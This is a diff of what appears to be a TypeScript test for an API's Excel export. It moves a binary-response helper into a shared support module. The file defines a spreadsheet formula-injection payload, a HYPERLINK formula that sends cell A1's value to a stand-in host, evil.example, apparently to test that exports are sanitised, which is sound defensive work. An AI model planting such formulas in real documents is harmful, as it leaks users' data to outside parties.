@@ -1,7 +1,7 @@
 import { Readable } from 'node:stream';
 import { inflateRawSync } from 'node:zlib';
 import ExcelJS from 'exceljs';
-import { givenPartnership, signIn, startTestApi, TestApi, TestPartnership } from '../support';
+import { binary, givenPartnership, signIn, startTestApi, TestApi, TestPartnership } from '../support';
 
 type Body = Record<string, unknown>;
 
@@ -19,14 +19,6 @@ const COLUMNS = [
 ];
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
-
-/** The buffer of a binary response (supertest leaves unknown content types unparsed). */
-const binary = (request: ReturnType<TestApi['http']['get']>) =>
-  request.buffer(true).parse((res, done) => {
-    const chunks: Buffer[] = [];
-    res.on('data', (chunk: Buffer) => chunks.push(chunk));
-    res.on('end', () => done(null, Buffer.concat(chunks)));
-  });
 
 async function xlsxRows(content: Buffer): Promise<{ values: string[][]; cells: ExcelJS.Cell[] }> {
   const workbook = new ExcelJS.Workbook();
